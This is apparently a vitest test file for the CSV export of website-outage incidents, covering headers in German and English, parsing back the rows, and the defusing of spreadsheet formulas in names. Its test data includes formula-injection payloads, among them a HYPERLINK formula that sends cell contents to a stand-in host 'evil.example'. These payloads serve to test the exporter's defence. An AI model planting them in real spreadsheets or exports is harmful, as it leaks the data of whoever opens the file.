import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { IncidentWithTimeline } from '../../../src/core/incident';
import { csvText } from '../../../src/main/reports/incident-csv';
import { createWords } from '../../../src/main/words';
import { nightMs, sampleIncident, sampleTimeline } from '../../support/history-samples';
import { wholeText } from '../../support/incident-text';

const german = createWords();
german.setLanguage('de');
const english = createWords();

const withTimeline = (over: Parameters<typeof sampleIncident>[0]): IncidentWithTimeline => ({
  ...sampleIncident(over),
  timeline: sampleTimeline(),
});

/** The rows as another program reads them, without the byte order mark. */
function readBack(csv: string): string[][] {
  const { data, errors } = Papa.parse<string[]>(csv.slice(1), { delimiter: ',', newline: '\r\n' });
  expect(errors).toEqual([]);
  return data;
}

describe('the export as CSV', () => {
  it('is a header and a row for each incident', () => {
    const tagged = { ...withTimeline({ endedAt: nightMs + 90_400 }), tags: ['Hetzner', '=1+1'] };
    const csv = wholeText(csvText(german), [tagged, withTimeline({ clientName: null })]);
    expect(csv.startsWith('\uFEFFKennung,Seite,Adresse,Kunde,Ursache,')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    const [header, first, second, end] = readBack(csv);
    expect(header).toHaveLength(15);
    expect(first).toEqual([
      'incident-1',
      'Bäckerei Müller',
      'https://baeckerei-mueller.example/',
      'Müller & Söhne',
      'der Server antwortet mit Fehler 503',
      'Ausfall',
      '2026-11-21T01:31:04.000Z',
      '2026-11-21T01:32:04.000Z',
      '2026-11-21T01:33:34.400Z',
      '90',
      '2026-11-21T01:32:34.000Z',
      '',
      '',
      'Hetzner, =1+1',
      [
        '2026-11-21T01:32:04.000Z Erste fehlgeschlagene Prüfung: der Server antwortet mit Fehler 503',
        '2026-11-21T01:32:34.000Z Durch 3 fehlgeschlagene Prüfungen in Folge bestätigt',
      ].join('\n'),
    ]);
    expect([second?.[3], second?.[8], second?.[9]]).toEqual(['', '', '']);
    expect(end).toEqual(['']);
  });

  // Seen to fail: of an outage that somebody entered the column claimed a failed check, and that the site was up again.
  it('has headings that are true of what a check saw and of what was entered by hand', () => {
    const headings = (words: typeof german): string[] =>
      readBack(wholeText(csvText(words), []))
        .flat()
        .slice(7, 9);
    expect(headings(german)).toEqual(['Beginn (UTC)', 'Ende (UTC)']);
    expect(headings(english)).toEqual(['Began (UTC)', 'Ended (UTC)']);
  });

  it('is a header alone where nothing happened', () => {
    expect(readBack(wholeText(csvText(english), []))).toHaveLength(2);
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+49 30', "'+49 30"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['=HYPERLINK("http://evil.example?x="&A1,"ok")\n,=2', '\'=HYPERLINK("http://evil.example?x="&A1,"ok")\n,=2'],
    ['a=1', 'a=1'],
  ])('disarms the formula %j', (siteName, cell) => {
    expect(
      readBack(wholeText(csvText(english), [withTimeline({ siteName, clientName: siteName })]))[1]?.slice(1, 4),
    ).toEqual([cell, 'https://baeckerei-mueller.example/', cell]);
  });

  it('comes back as it was, whatever a name is made of, and with no cell that begins a formula', () => {
    const hostile = fc.string({
      unit: fc.constantFrom('"', ',', ';', '\r', '\n', '\t', "'", '=', '+', '-', '@', ' ', 'ä', '\uFEFF', '😀', 'x'),
    });
    fc.assert(
      fc.property(fc.array(fc.tuple(hostile, hostile), { maxLength: 5 }), (names) => {
        const incidents = names.map(([siteName, clientName]) => withTimeline({ siteName, clientName }));
        const rows = readBack(wholeText(csvText(english), incidents)).slice(1, -1);
        const isFormula = (cell: string): boolean => /^[=+\-@\t\r]/.test(cell);
        expect(rows.flat().filter(isFormula)).toEqual([]);
        const disarmed = (text: string): string => (/^[=+\-@\t\r\n]/.test(text) ? `'${text}` : text);
        expect(rows.map((row) => [row[1], row[3]])).toEqual(names.map((pair) => pair.map(disarmed)));
      }),
      { numRuns: 300 },
    );
  });
});
